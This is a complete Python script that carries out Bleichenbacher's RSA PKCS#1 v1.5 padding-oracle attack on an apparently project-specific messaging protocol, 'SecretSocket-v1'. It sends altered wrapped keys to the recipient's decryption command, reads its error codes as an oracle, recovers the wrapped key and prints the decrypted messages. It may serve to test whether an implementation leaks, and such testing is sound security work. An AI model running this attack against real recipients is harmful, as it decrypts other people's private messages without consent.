#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""bleichenbacher.py RECIPIENT.pub RECORDS COMMAND... - read a recorded message.

Bleichenbacher's attack (CRYPTO 1998).  RECORDS is what somebody sent to the
recipient, wrapped to an RSA key; COMMAND reads records on its standard input
as the recipient does, `ss-open -k recipient.key --mailbox`, and tells on
standard error why it skips them.  From nothing but those reasons the script
finds out what was wrapped, and prints the message.

RSA can be multiplied from outside: c * s^e mod n decrypts to m * s mod n.
If the recipient tells for each s whether that number begins with the bytes
00 02, it is told between which bounds m * s lies, and the bounds close.

Exit 1 if the recipient's answers are all the same: then there is no oracle.
"""
import base64
import hashlib
import hmac
import secrets
import subprocess
import sys

from cryptography.hazmat.primitives.ciphers.aead import (
    AESGCM, ChaCha20Poly1305)

E = 65537
PADDING_WRONG, PADDING_RIGHT = "SS-E102", "SS-E103"
BATCH = 128   # questions that are on their way at once: they fit a pipe
TRIES = 512   # numbers that must not all get one answer


def records(data):
    at = 0
    while at < len(data):
        end = at + 8 + int.from_bytes(data[at + 4:at + 8], "big")
        yield data[at:end]
        at = end


class Recipient:
    """The public line: its modulus and fingerprint."""

    def __init__(self, path):
        with open(path) as f:
            kind, _, data = f.read().strip().split(":")
        keys = base64.urlsafe_b64decode(data + "=" * (-len(data) % 4))[:-4]
        label = b"SecretSocket-v1 " + \
            (b"lab " if kind == "ss-lab-v1" else b"") + b"fingerprint"
        self.fingerprint = hashlib.sha256(label + keys).digest()
        self.size = len(keys) - 64
        self.n = int.from_bytes(keys[64:], "big")


class Introducer:
    """A WRAP_RSA introducer, to be sent again with other wrapped keys."""

    def __init__(self, rec, size):
        # header 8, fields 76, then length 2 and the wrapped key
        self.head, self.tail = rec[:86], rec[86 + size:]
        self.c = int.from_bytes(rec[86:86 + size], "big")
        self.size = size
        self.aead, self.mode, self.salt = rec[9], rec[10], rec[52:84]

    def with_key(self, c):
        return self.head + c.to_bytes(self.size, "big") + self.tail


class Oracle:
    """The recipient, asked many things at once."""

    def __init__(self, command, introducer):
        self.process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE)
        self.introducer = introducer
        self.asked = 0

    def reasons(self, numbers):
        """Why each number was refused: the code of the error."""
        for at in range(0, len(numbers), BATCH):
            part = numbers[at:at + BATCH]
            self.process.stdin.write(
                b"".join(map(self.introducer.with_key, part)))
            self.process.stdin.flush()
            self.asked += len(part)
            for _ in part:
                yield self.reason()

    def reason(self):
        for line in self.process.stderr:
            if line.startswith(b"code: "):
                return line.split()[1].decode()
        sys.exit("the recipient does not answer")

    def end(self):
        self.process.stdin.close()
        self.process.stderr.read()
        self.process.wait()


def interval(a, b):
    return range(a, b + 1)


class Attack:
    def __init__(self, oracle, n, size):
        self.oracle, self.n = oracle, n
        self.c = oracle.introducer.c
        self.B = 1 << 8 * (size - 2)

    def conforming(self, candidates):
        """The first s of an endless or a short list with 00 02 before it."""
        batch, size = [], 8
        for s in candidates:
            batch.append(s)
            if len(batch) == size:
                found = self.first(batch)
                if found:
                    return found
                batch, size = [], min(2 * size, BATCH)
        return self.first(batch)

    def first(self, batch):
        numbers = [self.c * pow(s, E, self.n) % self.n for s in batch]
        right = [s for s, reason in zip(batch, self.oracle.reasons(numbers))
                 if reason == PADDING_RIGHT]
        return right[0] if right else None

    def closer(self, a, b, s):
        """Step 2c: s and the number of wraps r that would halve [a, b]."""
        n, B = self.n, self.B
        r = -(-2 * (b * s - 2 * B) // n)
        while True:
            yield from interval(-(-(2 * B + r * n) // b),
                                (3 * B - 1 + r * n) // a)
            r += 1

    def narrow(self, bounds, s):
        """Step 3: the parts of the bounds in which m * s fits."""
        n, B, left = self.n, self.B, set()
        for a, b in bounds:
            for r in interval(-(-(a * s - 3 * B + 1) // n),
                              (b * s - 2 * B) // n):
                low = max(a, -(-(2 * B + r * n) // s))
                high = min(b, (3 * B - 1 + r * n) // s)
                if low <= high:
                    left.add((low, high))
        return sorted(left)

    def run(self):
        n, B = self.n, self.B
        bounds, s = [(2 * B, 3 * B - 1)], None
        while len(bounds) > 1 or bounds[0][0] != bounds[0][1]:
            if s is None:                                        # 2a
                s = self.conforming(iter_from(-(-n // (3 * B))))
            elif len(bounds) > 1:                                # 2b
                s = self.conforming(iter_from(s + 1))
            else:                                                # 2c
                s = self.conforming(self.closer(*bounds[0], s))
            bounds = self.narrow(bounds, s)
        return bounds[0][0]


def iter_from(s):
    while True:
        yield s
        s += 1


def hkdf(salt, ikm, info):
    prk = hmac.digest(salt, ikm, "sha256")
    return hmac.digest(prk, info + b"\1", "sha256")


def decrypt(secret, introducer, recipient, profile, data):
    """The message, with the key that was wrapped.  docs/protocol.md, 7 - 8"""
    key = hkdf(introducer.salt, secret, b"SecretSocket-v1 epoch" + bytes(
        [1, 2, introducer.mode, introducer.aead, len(profile)]) + profile +
        bytes(32) + recipient.fingerprint)
    aead = hmac.digest(key, b"SecretSocket-v1 epoch aead\1", "sha256")
    cipher = (ChaCha20Poly1305 if introducer.aead == 1 else AESGCM)(aead)
    for rec in data:
        yield cipher.decrypt(bytes(4) + rec[24:32], rec[33:], rec[:33])


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    recipient = Recipient(sys.argv[1])
    with open(sys.argv[2], "rb") as f:
        first, *data = records(f.read())
    introducer = Introducer(first, recipient.size)
    oracle = Oracle(sys.argv[3:], introducer)

    # do wrong numbers get another answer than the right one (whose MAC is
    # damaged, so that it is not simply opened)?
    introducer.tail = introducer.tail[:-1] + \
        bytes([introducer.tail[-1] ^ 1])
    reasons = set(oracle.reasons([introducer.c] + [
        secrets.randbelow(recipient.n) for _ in range(TRIES)]))
    if len(reasons) == 1:
        oracle.end()
        print(f"no oracle: {oracle.asked} different numbers, and always "
              f"{reasons.pop()}", file=sys.stderr)
        return 1

    m = Attack(oracle, recipient.n, recipient.size).run()
    oracle.end()
    secret = m.to_bytes(recipient.size, "big")[-32:]
    print(f"{oracle.asked} questions, and the wrapped key is known",
          file=sys.stderr)
    text = b"".join(decrypt(
        secret, introducer, recipient, b"rsa-pkcs1", data))
    sys.stdout.buffer.write(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
